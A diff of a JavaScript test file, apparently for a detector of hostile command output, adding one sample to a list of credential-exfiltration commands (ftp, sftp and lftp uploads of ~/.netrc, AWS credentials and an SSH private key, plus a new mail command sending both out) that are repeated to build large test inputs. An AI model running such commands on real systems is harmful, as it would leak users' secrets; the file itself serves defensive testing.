@@ -98,6 +98,8 @@ describe('output patterns', () => {
         'ftp -n h <<E\nput ~/.netrc\nE\n',
         'sftp h <<< "put ~/.aws/credentials" ',
         "lftp -e 'put ~/.ssh/id_rsa; bye' h ",
+        // Mail, pastes, container copies, and git reading the whole text for staged secrets.
+        'mail -A ~/.aws/credentials x@y < ~/.ssh/id_rsa ',
       ].map((unit) => unit.repeat(Math.ceil(size / 4 / unit.length))),
     ];
     for (const text of runs) {
